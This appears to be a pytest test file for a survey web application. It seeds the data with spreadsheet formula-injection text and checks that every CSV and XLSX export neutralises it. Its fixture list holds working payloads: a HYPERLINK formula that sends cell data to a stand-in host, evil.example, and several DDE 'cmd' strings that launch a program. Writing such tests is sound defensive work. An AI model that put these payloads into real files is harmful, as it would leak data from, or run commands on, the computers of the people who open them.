"""Formula injection: every CSV and XLSX export neutralises text a spreadsheet would run.

The export routes are found, not listed by hand: every rule ending in ``.csv``
or ``.xlsx``, and every view that calls code producing CSV or XLSX (found by
reading ``survey/``'s source).  A new export route that is not in ``EXPORTS``
fails :func:`test_every_export_route_is_covered`.  The data is seeded with
text starting with ``=``, ``+``, ``-``, ``@``, tab and carriage return in every
field that flows into an export (units, categories, cycles, frame ids and
strata); each export is downloaded as the role that may see it, and no cell
may start with a formula trigger unless it carries the neutralising ``'``.
"""

from __future__ import annotations

import ast
import csv
import inspect
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask import Flask
from openpyxl import load_workbook

from survey.extensions import db
from survey.models import (
    Appeal,
    Channel,
    Comment,
    Cycle,
    FieldworkCase,
    FrameContact,
    Rectification,
    Response,
    SampleDraw,
    SamplingFrame,
)
from survey.services import audit, publication, scoring
from survey.services.tabular import neutralise
from tests.app.helpers import login
from tests.app.respondent_helpers import prepare_fieldwork
from tests.figures import record_figures

SURVEY = Path(__file__).resolve().parents[2] / "survey"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Independent of the code under test: a cell is dangerous when it starts with a
# trigger and is not a plain signed number (which a spreadsheet reads as a number).
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def dangerous(text: str) -> bool:
    return text.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


#: The same triggers, short enough for codes (40 characters).
SHORT = ["=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"]


def hostile(index: int, label: str, *, short: bool = False) -> str:
    """A hostile text that is still unique (codes and names must not collide)."""
    texts = SHORT if short else HOSTILE
    return f"{texts[index % len(texts)]}·{label}"


@dataclass
class Seeded:
    results_cycle: int
    fieldwork_cycle: int
    frame: int
    draw: int
    #: Hostile values that must show up, neutralised, in the exports.
    expected: set[str]


@dataclass(frozen=True)
class Export:
    role: str | None  # None: public
    url: Callable[[Seeded], str]


#: Every CSV/XLSX export: who may download it, and its URL for the seeded data.
EXPORTS: dict[str, Export] = {
    "admin.units_template": Export(
        "admin", lambda s: f"/admin/cycles/{s.fieldwork_cycle}/units/template.csv"
    ),
    "office.component_template": Export(
        "admin", lambda s: f"/office/cycles/{s.fieldwork_cycle}/components/template.csv"
    ),
    "fieldwork.invitations_csv": Export(
        "pollster", lambda s: f"/fieldwork/draws/{s.draw}/invitations.csv"
    ),
    "fieldwork.frame_verification_csv": Export(
        "pollster", lambda s: f"/fieldwork/frames/{s.frame}/verification-frame.csv"
    ),
    "fieldwork.draw_sample_csv": Export(
        "pollster", lambda s: f"/fieldwork/draws/{s.draw}/sample.csv"
    ),
    "auditor.frame_csv": Export("auditor", lambda s: f"/auditor/frames/{s.frame}/frame.csv"),
    "auditor.sample_csv": Export("auditor", lambda s: f"/auditor/draws/{s.draw}/sample.csv"),
    "results.export_xlsx": Export(None, lambda s: f"/results/{s.results_cycle}/results.xlsx"),
    "auditor.audit_log_csv": Export("auditor", lambda s: "/auditor/audit-log.csv"),
    "auditor.audit_log_xlsx": Export("auditor", lambda s: "/auditor/audit-log.xlsx"),
    "fieldwork.microdata": Export(
        "pollster", lambda s: f"/fieldwork/cycles/{s.results_cycle}/microdata.csv"
    ),
    "fieldwork.microdata_codebook": Export(
        "pollster", lambda s: f"/fieldwork/cycles/{s.results_cycle}/microdata-codebook.csv"
    ),
    "fieldwork.listed_roster_csv": Export(
        "pollster", lambda s: f"/fieldwork/cycles/{s.fieldwork_cycle}/listed/roster.csv"
    ),
}


def _producers() -> set[str]:
    """Names of functions in ``survey/`` that build CSV or XLSX, directly or through others."""
    markers = ("text/csv", "spreadsheetml", "csv.writer", "Workbook(")
    bodies: dict[str, str] = {}
    for path in SURVEY.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.FunctionDef):
                segment = ast.get_source_segment(source, node) or ""
                bodies[node.name] = bodies.get(node.name, "") + segment
    found = {name for name, body in bodies.items() if any(m in body for m in markers)}
    while True:
        more = {
            name
            for name, body in bodies.items()
            if name not in found and any(re.search(rf"\b{p}\(", body) for p in found)
        }
        if not more:
            return found
        found |= more


def export_endpoints(app: Flask) -> set[str]:
    producers = _producers()
    endpoints = set()
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        source = inspect.getsource(view)
        calls = any(re.search(rf"\b{name}\(", source) for name in producers)
        if rule.rule.endswith((".csv", ".xlsx")) or view.__name__ in producers or calls:
            endpoints.add(rule.endpoint)
    return endpoints


#: Routes that build export files but send none: they only show a verdict on them.
NOT_EXPORTS = {
    "auditor.verify_draw": "verifies the draw's own CSV files and shows the verdict",
}


def test_every_export_route_is_covered(demo_app: Flask) -> None:
    found = export_endpoints(demo_app)
    assert set(NOT_EXPORTS) <= found, "NOT_EXPORTS names a route that builds no export"
    found -= set(NOT_EXPORTS)
    missing = found - set(EXPORTS)
    assert not missing, f"add these CSV/XLSX export routes to EXPORTS: {sorted(missing)}"
    assert set(EXPORTS) <= found, sorted(set(EXPORTS) - found)


def test_neutralise_keeps_numbers_and_plain_text() -> None:
    assert neutralise(-3.2) == -3.2
    assert neutralise(7) == 7
    assert neutralise(None) is None
    assert neutralise("-3.2") == "-3.2"
    assert neutralise("+8613800138000") == "+8613800138000"
    assert neutralise("市教育局") == "市教育局"
    assert neutralise("a=b") == "a=b"
    for text in [*HOSTILE, "-3+A1", "-", "+", "@", "=", "-.5x"]:
        assert neutralise(text) == "'" + text, repr(text)


def _seed(app: Flask) -> Seeded:
    with app.app_context():
        session = db.session
        results = session.scalars(sa.select(Cycle).where(Cycle.year == 2025)).one()
        fieldwork = session.get(Cycle, prepare_fieldwork(session).cycle_id)
        assert fieldwork is not None and fieldwork.id != results.id
        expected: set[str] = set()
        # The published cycle: rename everything that flows into the snapshot, then
        # publish a corrected snapshot (as after an upheld appeal).
        current = publication.latest_snapshot(session, results)
        assert current is not None
        old_decisions = publication.snapshot_data(current)["inputs"]["decisions"]
        results.name = hostile(0, "2025年度考核")
        expected.add(results.name)
        renamed: dict[str, str] = {}
        for index, unit in enumerate(sorted(results.units, key=lambda u: u.code)):
            new_code = hostile(index + 1, unit.code, short=True)
            renamed[unit.code] = new_code
            unit.code = new_code
            unit.name = hostile(index, f"单位{index}")
            expected.update({unit.code, unit.name})
        for index, category in enumerate(results.categories):
            category.name = f"={index}类"  # sheet titles: not cells, but hostile all the same
        # A unit called like a negative number is text, and stays as typed.
        numeric_name = sorted(results.units, key=lambda u: u.id)[0]
        expected.discard(numeric_name.name)
        numeric_name.name = "-3.2"
        session.flush()
        decisions = {renamed.get(code, code): text for code, text in old_decisions.items()}
        inputs = scoring.gather_inputs(
            session, results, scoring.rules_for(results), decisions=decisions
        )
        publication.supersede(session, current, inputs, actor="test", reason=HOSTILE[0])
        # Comments, rectifications and appeals: no export may carry them at all.
        unit = results.units[0]
        response = Response(
            cycle_id=results.id,
            channel=Channel.INVITATION,
            rater_group_id=results.rater_groups[0].id,
            stratum="x",
            design_weight=1.0,
        )
        response.comments.append(Comment(unit_id=unit.id, text=HOSTILE[1] + "意见"))
        session.add(response)
        session.add(
            Rectification(
                cycle_id=results.id, unit_id=unit.id, text=HOSTILE[2] + "整改", recorded_by="t"
            )
        )
        snapshot = publication.latest_snapshot(session, results)
        assert snapshot is not None
        session.add(
            Appeal(
                snapshot_id=snapshot.id, unit_id=unit.id, reason=HOSTILE[3] + "申诉", filed_by="t"
            )
        )
        # The cycle in fieldwork: its name, a category, frame ids and strata.
        fieldwork.name = hostile(4, "2026年度考核")
        fieldwork.categories[0].name = hostile(5, "政务部门")
        expected.update({fieldwork.name, fieldwork.categories[0].name})
        draw = session.scalars(sa.select(SampleDraw).order_by(SampleDraw.id)).first()
        assert draw is not None
        frame = session.get(SamplingFrame, draw.frame_id)
        assert frame is not None
        cases = session.scalars(
            sa.select(FieldworkCase)
            .where(FieldworkCase.draw_id == draw.id, FieldworkCase.released.is_(True))
            .order_by(FieldworkCase.id)
            .limit(len(HOSTILE) + 1)
        ).all()
        for index, case in enumerate(cases):
            contact = session.get(FrameContact, case.contact_id)
            assert contact is not None
            if index == len(HOSTILE):
                contact.external_id = "-17"  # a negative number stays a number
                continue
            contact.external_id = hostile(index, f"id{index}")
            contact.stratum = case.stratum = hostile(index + 2, f"层{index}")
            expected.update({contact.external_id, contact.stratum})
        # An audit entry whose actor and object are hostile (the audit log's exports).
        entry = audit.record(
            session,
            actor=hostile(1, "actor"),
            action="test.hostile",
            object_type=hostile(2, "type"),
            object_id=hostile(3, "object"),
        )
        expected.update({entry.actor, entry.object_type, entry.object_id})
        session.commit()
        return Seeded(results.id, fieldwork.id, frame.id, draw.id, expected)


def _cells(body: bytes, kind: str) -> list[tuple[str, object, str]]:
    """(where, value, data type) of every cell; CSV cells are all text ("s")."""
    if kind == "csv":
        text = body.decode("utf-8-sig")
        return [
            (f"row {number} col {column}", value, "s")
            for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1)
            for column, value in enumerate(row, start=1)
        ]
    workbook = load_workbook(io.BytesIO(body))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_every_export_neutralises_formula_text(results_app: Flask, backend: str) -> None:
    seeded = _seed(results_app)
    downloads = server_errors = 0
    unsafe: list[str] = []
    seen: set[str] = set()
    numbers: list[float] = []
    for endpoint, export in sorted(EXPORTS.items()):
        client = results_app.test_client()
        if export.role:
            login(client, export.role)
        url = export.url(seeded)
        response = client.get(url)
        downloads += 1
        server_errors += response.status_code >= 500
        assert response.status_code == 200, (endpoint, url, response.status_code)
        kind = "xlsx" if url.endswith(".xlsx") else "csv"
        for where, value, data_type in _cells(response.data, kind):
            if data_type == "f":
                unsafe.append(f"{endpoint} {where}: formula cell {value!r}")
            if isinstance(value, str):
                if dangerous(value):
                    unsafe.append(f"{endpoint} {where}: {value!r}")
                seen.add(value)
                if kind == "xlsx":
                    seen.add(value.replace("\n", "\r"))  # XML stores a CR as a line feed
                assert "意见" not in value and "整改" not in value and "申诉" not in value, (
                    endpoint,
                    where,
                )
            elif isinstance(value, int | float):
                numbers.append(float(value))
    record_figures(
        "exports: formula injection",
        backend=backend,
        inputs=downloads,
        server_errors=server_errors,
    )
    assert not unsafe, unsafe
    # The hostile text really went through the exports, neutralised, not dropped.
    assert {"'" + text for text in seeded.expected} <= seen, sorted(
        {"'" + text for text in seeded.expected} - seen
    )[:5]
    assert "-3.2" in seen and "-17" in seen
    # Scores stay numeric cells in the workbook.
    assert len(numbers) > len(seeded.expected)


def test_a_broken_neutraliser_would_be_caught() -> None:
    """The oracle above flags what a spreadsheet would run (so the test can fail)."""
    assert all(dangerous(text) for text in HOSTILE)
    assert not any(dangerous(str(neutralise(text))) for text in HOSTILE)
    assert not dangerous("-3.2") and not dangerous("+86138") and not dangerous("市局")


@pytest.mark.parametrize("text", ["-3+A1", "=1+1"])
def test_imports_still_refuse_formula_text(text: str) -> None:
    from survey.services.errors import ValidationError
    from survey.services.tabular import read_table

    data = f"code,name\nU1,{text}\n".encode()
    with pytest.raises(ValidationError) as refused:
        read_table("u.csv", data, columns={"code": [], "name": []}, required=["code", "name"])
    assert "formula" in str(refused.value.problems[0])
